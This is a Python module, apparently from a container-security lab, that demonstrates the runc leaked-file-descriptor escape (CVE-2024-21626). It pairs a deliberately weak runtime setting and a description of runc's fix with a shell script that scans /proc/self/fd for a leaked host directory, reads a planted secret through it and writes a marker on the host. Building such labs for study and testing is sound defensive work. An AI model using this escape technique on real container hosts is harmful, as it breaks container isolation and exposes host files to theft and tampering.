"""A leaked host directory fd (CVE-2024-21626)."""

from __future__ import annotations

from engine.attacks.base import Attack, Lab, Outcome, read_text, step_text


class LeakedFd(Attack):
    name = "leaked_fd"
    title = "leaked host directory fd"
    cve = "CVE-2024-21626"
    technique = ("look for a directory descriptor the runtime left open (/proc/self/fd/N): it is a host "
                 "directory outside the container's root, so paths through it - or a working directory set to "
                 "/proc/self/fd/N - reach the host. The payload reads a secret and writes a marker there.")
    weak = "the runtime leaks an fd of a host directory into the container (config leak_fd_for_attack_demo)"
    stops_it = ("the child closes every fd it was not given before pivot_root, and right before execve marks "
                "every fd >= 3 close-on-exec and checks that the working directory is inside the container's "
                "root (runc's fix for CVE-2024-21626)")

    def config(self, lab: Lab, profile: str) -> dict:
        return {"leak_fd_for_attack_demo": str(lab.host)} if profile == "weak" else {}

    def execute(self, lab: Lab, profile: str) -> Outcome:
        script = lab.script("""
found=
for f in /proc/self/fd/*; do
  n=${f##*/}; [ "$n" -le 2 ] 2>/dev/null && continue
  [ -d "$f" ] || continue
  echo "INFO: fd $n is a directory: $(readlink $f)"
  if [ -f "$f/secret.txt" ]; then
    echo "SECRET: $(cat $f/secret.txt)"
    echo "written through a leaked fd" > "$f/leaked_fd.marker" && echo "OK: wrote a marker through fd $n"
    found=1
  fi
done
[ -n "$found" ] || echo "BLOCKED: no directory descriptor of the host: only $(ls /proc/self/fd | tr '\\n' ' ')"
""")
        run = lab.run(["sh", script], extra=self.config(lab, profile))
        marker = read_text(lab.host / "leaked_fd.marker")
        if run.first("SECRET:") == lab.secret and marker:
            return Outcome(True, f"through the leaked fd the container read {lab.secret!r} and wrote "
                                 f"{lab.host}/leaked_fd.marker on the host", details={"output": run.output})
        return Outcome(False, run.first("BLOCKED:") or "nothing found",
                       step_text(run.step("process", "close-on-exec fds >= 3")), {"output": run.output})
